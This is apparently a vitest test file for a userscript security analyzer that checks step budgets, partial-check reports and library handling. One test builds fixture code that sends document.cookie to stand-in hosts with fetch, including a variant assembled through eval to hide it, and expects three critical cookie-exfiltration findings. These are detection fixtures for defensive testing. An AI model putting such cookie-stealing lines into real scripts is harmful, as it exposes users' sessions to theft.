import { expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { FIRST_CHECK_STEPS } from "../step-budgets.ts";

/** Smaller step budgets for the first and the full check, so that the tests are fast. */
const first = { steps: 500_000 };
const full = { steps: 20 * first.steps };

const found = (code: string, budget = first) =>
	analyzeScript({ code }, budget).vulnerabilities.map(({ type, severity }) => `${type} ${severity}`);

/** Calls with constants are looked at one by one, so that this work is never summarized. */
const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";
const calls = (count: number): string => Array.from({ length: count }, (_, run) => `burn(${run});`).join("\n");

test("a script that takes too long to check is said to be checked in part", () => {
	expect(found(`${BURN}\n${calls(90)}`)).toEqual(["checked-in-part medium"]);
});

test("the part that was checked is named", () => {
	const described = (code: string) =>
		analyzeScript({ code }, first).vulnerabilities.find(({ type }) => type === "checked-in-part")?.description;
	const endless = `${BURN}\n${calls(90)}`;
	expect(described(endless)).toContain(
		"Each function was looked at, but not with everything that it can be called with.",
	);
	expect(described(`${endless}\nfunction never() {}\nclass Never { go() {} }\n(() => {})();`)).toMatch(
		/ Its beginning and 1 of its 4 functions were checked, and what the rest does is unknown\.$/,
	);
});

test("libraries that are too large with the script are named", () => {
	const address = "https://own.example/x.js";
	const head = `// ==UserScript==\n// @name a\n// @match https://a.example/*\n// @require ${address}\n// ==/UserScript==\n`;
	const text = `${BURN}\n${calls(90)}`;
	const { vulnerabilities, capabilities } = analyzeScript({ code: `${head}1;`, libraries: [{ address, text }] }, first);
	expect(vulnerabilities.find(({ type }) => type === "checked-in-part")?.description).toMatch(
		/^Not checked in full: script and libraries together are too large, or take too long to check\. Each function /,
	);
	expect(capabilities.libraries).toMatchObject([{ state: "checked-in-part" }]);
});

test("a script that was followed to its end is not", () => {
	expect(found(`${BURN}\n${calls(3)}`)).toEqual([]);
});

test("a full check follows it to its end", () => {
	expect(found(`${BURN}\n${calls(90)}`, full)).toEqual([]);
});

/** Too many steps for the first check, in both runs of it. */
const LONG = `const text = "${"x".repeat(9_000)}";${"text.split('');".repeat(60)}`;

test("a full check finds what stands behind it: in plain text, in a function, and in code that is put together", () => {
	const leak = (host: string) => `fetch("https://${host}.test/" + document.cookie);`;
	const assembled = `eval('fetch("https://three.test/" + docu' + "ment.cookie)");`;
	const code = `function send() { ${leak("two")} }\n${LONG}\n${leak("one")}\nsend();\n${assembled}`;
	expect(found(code)).toEqual(["checked-in-part medium"]);
	expect(found(code, full)).toEqual(Array(3).fill("cookie-exfiltration critical"));
});

test("the steps alone decide the result", () => {
	const code = `${BURN}\n${calls(30)}`;
	expect(analyzeScript({ code }, { steps: FIRST_CHECK_STEPS })).toEqual(analyzeScript({ code }));
	expect(analyzeScript({ code }, full)).toEqual(analyzeScript({ code }));
});
